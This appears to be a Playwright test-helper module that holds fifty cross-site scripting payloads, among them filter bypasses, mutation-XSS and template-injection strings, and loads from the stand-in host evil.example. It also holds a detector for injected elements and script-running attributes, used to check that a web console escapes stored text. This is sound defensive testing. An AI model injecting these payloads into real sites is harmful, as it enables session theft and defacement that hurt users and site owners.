"""Fifty texts that become script wherever a text is taken for markup, an address, a style or a template.

Each would set ``window.hit`` or open a dialog.
"""

from playwright.sync_api import Page

PAYLOADS = (
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(1)//",
    "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "--><script>window.hit=1</script>",
    "]]><script>window.hit=1</script>",
    '"><script>window.hit=1</script>',
    "'><script>window.hit=1</script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<script\x0cx>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '<img src="x" onerror="window.hit=1">',
    '"><img src=x onerror=window.hit=1>',
    "<img/src=x/onerror=window.hit=1>",
    "<IMG SRC=javascript:window.hit=1>",
    '<img src=x:x onerror="&#119;indow.hit=1">',
    "<img srcset='x 1x' onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.hit=1'><text y=20>点</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=window.hit=1>#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<body onload=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1></select>",
    "<textarea autofocus onfocus=window.hit=1></textarea>",
    "<details open ontoggle=window.hit=1>点</details>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1></audio>",
    "<marquee onstart=window.hit=1>滚动</marquee>",
    "<div style=animation-name:x onanimationstart=window.hit=1>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=javascript:window.hit=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
    "<base href=//evil.example/>",
    "<form action=javascript:window.hit=1><button>交</button></form>",
    "<a href=javascript:window.hit=1>点这里</a>",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1//",
    "data:text/html,<script>window.hit=1</script>",
    "${window.hit=1}{{constructor.constructor('window.hit=1')()}}",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "'\";alert(1);//</script><b onmouseover=window.hit=1>b</b>",
)


# What no text may bring into a page: foreign elements that load or run, and attributes that run.
_INJECTED = """() => {
  const loads = [
    "script:not([src^='/console/static/'])", "link:not([href^='/console/static/'])", "iframe", "object",
    "embed", "base", "svg:not(.tree):not(.tree *)", "math", "video", "audio", "marquee", "img",
    "meta[http-equiv]", "form[action]",
  ].join();
  const runs = ({name, value}) =>
    /^on/i.test(name) || (/(href|src|action)$/i.test(name) && /^\\s*(javascript|data):/i.test(value));
  return [...document.querySelectorAll("*")]
    .filter((one) => one.matches(loads) || [...one.attributes].some(runs))
    .map((one) => one.outerHTML.slice(0, 200));
}"""


def assert_unharmed(page: Page) -> None:
    """Nothing ran, and nothing stands in the page that would load or run."""
    assert page.evaluate("window.hit") is None
    assert page.evaluate(_INJECTED) == []


def storable(payload: str, length: int = 200) -> str:
    """What a field of so many characters takes of a payload: no control characters, no space around it."""
    return payload.replace("\x0c", " ")[:length].strip()


def packed(length: int) -> list[str]:
    """The whole corpus in as few texts of at most so many characters as hold it in order."""
    texts = [""]
    for payload in map(storable, PAYLOADS):
        joined = f"{texts[-1]} {payload}".strip()
        if len(joined) <= length:
            texts[-1] = joined
        else:
            texts.append(payload)
    return texts
